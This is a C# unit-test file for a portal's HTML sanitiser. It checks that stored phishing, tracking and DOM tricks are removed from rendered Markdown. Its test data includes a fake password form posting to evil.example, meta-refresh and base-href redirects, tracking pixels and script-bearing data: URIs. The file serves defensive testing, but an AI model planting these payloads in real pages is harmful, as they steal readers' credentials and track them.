using Portal.Content;

namespace Portal.Tests.Content;

/// <summary>Issue 14 finding 1: stored phishing, tracking and DOM tricks in documents never reach a reader.</summary>
public class HtmlSafetyTests
{
    private static readonly MarkdownRenderer s_renderer = new(new HtmlSafety());

    private static string Render(string markdown, MarkdownRenderer? renderer = null) =>
        (renderer ?? s_renderer).Render(markdown, "arbejdsgange/03-afgoerelse/afslag", ParserTestData.Laws).Html;

    [Theory]
    [InlineData("<form action=\"https://evil.example/log-ind\"><input name=\"kode\" type=\"password\"><button>Log ind igen</button></form>", "<form")]
    [InlineData("<form action=\"https://evil.example/log-ind\"><input name=\"kode\" type=\"password\"></form>", "evil.example")]
    [InlineData("<input type=\"password\" name=\"kode\">", "password")]
    [InlineData("<input type=\"text\" name=\"bruger\">", "<input")]
    [InlineData("<textarea>Skriv din adgangskode</textarea>", "<textarea")]
    [InlineData("<select><option>Vælg</option></select>", "<select")]
    [InlineData("<select><option>Vælg</option></select>", "<option")]
    [InlineData("<button type=\"submit\">Log ind igen</button>", "<button")]
    [InlineData("<img src=\"https://tracker.example/pixel.gif\">", "tracker.example")]
    [InlineData("![pixel](https://tracker.example/pixel.gif)", "tracker.example")]
    [InlineData("<img src=\"//tracker.example/pixel.gif\">", "tracker.example")]
    [InlineData("<img src=\"data:text/html,<script>alert(1)</script>\">", "data:text")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "data:")]
    [InlineData("<div class=\"mud-overlay mud-overlay-dialog\">Din session er udløbet</div>", "mud-overlay")]
    [InlineData("<span id=\"app\">x</span>", "id=\"app\"")]
    [InlineData("<img name=\"getElementById\" src=\"/a.png\">", "name=")]
    [InlineData("<div style=\"position:fixed;inset:0\">x</div>", "style")]
    [InlineData("<div role=\"dialog\">x</div>", "role=")]
    [InlineData("<label for=\"x\">Adgangskode</label>", "<label")]
    [InlineData("<fieldset><legend>Log ind</legend></fieldset>", "<fieldset")]
    [InlineData("<iframe src=\"/konto/log-ud\"></iframe>", "<iframe")]
    [InlineData("<object data=\"/x.swf\"></object>", "<object")]
    [InlineData("<a href=\"#\" data-action=\"x\">x</a>", "data-action")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "refresh")]
    [InlineData("<base href=\"https://evil.example/\">", "<base")]
    [InlineData("<style>body{display:none}</style>", "<style")]
    [InlineData("<svg><a href=\"https://evil.example\">x</a></svg>", "<svg")]
    public void Sanitise_AttackVector_IsRemoved(string markdown, string forbidden)
    {
        var html = Render(markdown);

        Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Sanitise_FakeSignInForm_IsRemovedWholeAndTheRestIsKept()
    {
        var html = Render("Før formularen.\n\n<form action=\"https://evil.example\"><p>Din session er udløbet</p><button>Log ind igen</button></form>\n\nEfter formularen.\n");

        Assert.Contains("Før formularen.", html);
        Assert.Contains("Efter formularen.", html);
        Assert.DoesNotContain("Log ind igen", html);
        Assert.DoesNotContain("evil.example", html);
    }

    [Theory]
    [InlineData("![diagram](/billeder/forloeb.png)", "src=\"/billeder/forloeb.png\"")]
    [InlineData("![diagram](billeder/forloeb.png)", "src=\"billeder/forloeb.png\"")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"prik\">", "src=\"data:image/png;base64,iVBORw0KGgo=\"")]
    public void Sanitise_ImageFromPortalOrData_IsKept(string markdown, string expected) =>
        Assert.Contains(expected, Render(markdown));

    [Fact]
    public void Sanitise_ImageFromConfiguredHost_IsKept()
    {
        var renderer = new MarkdownRenderer(new HtmlSafety(["billeder.kommune.example"]));

        var html = Render("![kort](https://billeder.kommune.example/kort.png) ![spor](https://tracker.example/p.gif)", renderer);

        Assert.Contains("https://billeder.kommune.example/kort.png", html);
        Assert.DoesNotContain("tracker.example", html);
    }

    [Fact]
    public void Sanitise_HeadingIdsFromRenderer_AreKept_AuthorIdsAreNot()
    {
        var result = s_renderer.Render("## Formål\n\n<h2 id=\"app\">Falsk</h2>\n\n<p id=\"formaal-2\">x</p>\n", "a/b", ParserTestData.Laws);

        Assert.Contains($"id=\"{result.Toc[0].Id}\"", result.Html);
        Assert.DoesNotContain("id=\"app\"", result.Html);
        Assert.DoesNotContain("formaal-2", result.Html);
    }

    [Fact]
    public void Sanitise_RendererClasses_AreKept()
    {
        var html = Render("> [!WARNING]\n> Husk partshøring.\n\nSe Barnets Lov § 86.\n\n- [ ] Send pjecen\n\nTekst[^1]\n\n[^1]: Note\n");

        Assert.Contains("markdown-alert-warning", html);
        Assert.Contains("class=\"lovhenvisning\"", html);
        Assert.Contains("contains-task-list", html);
        Assert.Contains("id=\"fn:1\"", html);
        Assert.Contains("class=\"footnote-ref\"", html);
    }

    [Fact]
    public void Sanitise_TaskListCheckbox_IsKeptDisabledAndLabelled()
    {
        var html = Render("- [x] Book lokale\n");

        Assert.Contains("type=\"checkbox\"", html);
        Assert.Contains("disabled", html);
        Assert.Contains("aria-label=\"Book lokale\"", html);
    }

    [Fact]
    public void Sanitise_LetterPath_DropsExternalImage()
    {
        // Letters skip the sanitiser when nothing needs it: an image always needs it.
        var html = s_renderer.Render("Kære borger\n\n![spor](https://tracker.example/p.gif)\n", null, ParserTestData.Laws, sanitizeOnlyWhenNeeded: true).Html;

        Assert.DoesNotContain("tracker.example", html);
        Assert.Contains("Kære borger", html);
    }
}
